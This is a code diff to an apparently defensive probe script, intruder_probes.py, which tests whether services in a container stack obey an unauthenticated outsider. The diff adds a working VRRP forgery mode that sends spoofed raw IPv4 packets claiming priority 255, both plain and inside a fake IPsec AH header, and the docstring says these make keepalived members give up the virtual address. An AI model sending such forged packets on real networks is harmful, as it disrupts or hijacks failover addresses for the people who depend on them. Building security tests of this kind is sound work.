@@ -3,6 +3,8 @@
 probe of a plan and print what came back, one JSON object per probe.
 
     python3 intruder_probes.py PLAN_JSON
+    python3 intruder_probes.py --forge-vrrp FORGERY_JSON
+
 
 A probe is ``{"name", "kind": "http", "method", "url", "body"}``,
 ``{"name", "kind": "mysql", "address", "port"}``, ``{"name", "kind": "tcp",
@@ -10,16 +12,29 @@ A probe is ``{"name", "kind": "http", "method", "url", "body"}``,
 "tls_cbc", "address", "port"}`` (a TLS 1.2 client offering only CBC suites with a
 SHA-1 MAC: does the server complete the handshake). A probe the host firewall
 drops ends as ``no answer`` after TIMEOUT seconds; probes run in parallel, so the
-whole plan takes a few timeouts, not one per probe. The intruder has no credentials
+whole plan takes a few timeouts, not one per probe.
+
+``--forge-vrrp`` sends forged VRRP advertisements for ``seconds``: ``{"vrid", "vip",
+"seconds", "addresses"}``. Each claims priority 255 (the address's owner) for
+``vrid``, from the address of one member of ``addresses`` (spoofed) to every other
+member and to VRRP's multicast group, twice: plain VRRP, and VRRP inside an IPsec
+AH header whose digest is made up. It needs CAP_NET_RAW (docker's default) and
+prints the number of packets sent. Unauthenticated keepalived obeys the plain ones:
+every member steps down and nobody holds the address while they come.
+
+The intruder has no credentials
 and trusts no CA (certificates are not checked: what is tested is whether the
 daemon obeys a stranger, not whether the stranger trusts it). Standard library
 only: the container has Python and nothing of the stack.
 """
 
 import json
+import os
 import socket
 import ssl
+import struct
 import sys
+import time
 import urllib.error
 import urllib.request
 from concurrent.futures import ThreadPoolExecutor
@@ -89,12 +104,64 @@ def tls_cbc(probe):
         return _no_connection(error)
 
 
+def _checksum(data):
+    if len(data) % 2:
+        data += b"\0"
+    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
+    while total >> 16:
+        total = (total & 0xFFFF) + (total >> 16)
+    return ~total & 0xFFFF
+
+
+def _vrrp_advert(vrid, vip, auth_type):
+    """A VRRPv2 advertisement: priority 255, one address, advert interval 1 s."""
+    body = struct.pack("!BBBBBBH", 0x21, vrid, 255, 1, auth_type, 1, 0) + socket.inet_aton(vip) + b"\0" * 8
+    return body[:6] + struct.pack("!H", _checksum(body)) + body[8:]
+
+
+def _ip_packet(source, destination, protocol, payload):
+    """An IPv4 header with a spoofed source and TTL 255 (VRRP's), then the payload; the
+    kernel fills in the checksum."""
+    return struct.pack("!BBHHHBBH4s4s", 0x45, 0xC0, 20 + len(payload), 0, 0, 255, protocol, 0,
+                       socket.inet_aton(source), socket.inet_aton(destination)) + payload
+
+
+def forged_vrrp_packets(vrid, vip, addresses):
+    """(destination, packet) for every forgery: plain VRRP (protocol 112) and VRRP in an AH
+    header (protocol 51) with a made-up digest, from each address to the others and to 224.0.0.18."""
+    packets = []
+    for source in addresses:
+        for destination in [a for a in addresses if a != source] + ["224.0.0.18"]:
+            packets.append((destination, _ip_packet(source, destination, 112, _vrrp_advert(vrid, vip, 0))))
+            spi = struct.unpack("!I", socket.inet_aton(source))[0]
+            header = struct.pack("!BBHII", 112, 4, 0, spi, 1) + os.urandom(12)
+            packets.append((destination, _ip_packet(source, destination, 51, header + _vrrp_advert(vrid, vip, 2))))
+    return packets
+
+
+def forge_vrrp(forgery):
+    """Send the forgeries every 0.1 s for ``seconds``; return how many packets went out."""
+    packets = forged_vrrp_packets(int(forgery["vrid"]), forgery["vip"], forgery["addresses"])
+    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
+    sender.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
+    sent, end = 0, time.monotonic() + float(forgery["seconds"])
+    while time.monotonic() < end:
+        for destination, packet in packets:
+            sender.sendto(packet, (destination, 0))
+            sent += 1
+        time.sleep(0.1)
+    return sent
+
+
 def run(probe):
     kinds = {"http": http, "mysql": mysql, "tcp": tcp, "tls_cbc": tls_cbc}
     return {"name": probe["name"], **kinds[probe["kind"]](probe)}
 
 
 def main():
+    if sys.argv[1] == "--forge-vrrp":
+        print(forge_vrrp(json.loads(sys.argv[2])), flush=True)
+        return
     with ThreadPoolExecutor(max_workers=32) as pool:
         for result in pool.map(run, json.loads(sys.argv[1])):
             print(json.dumps(result), flush=True)
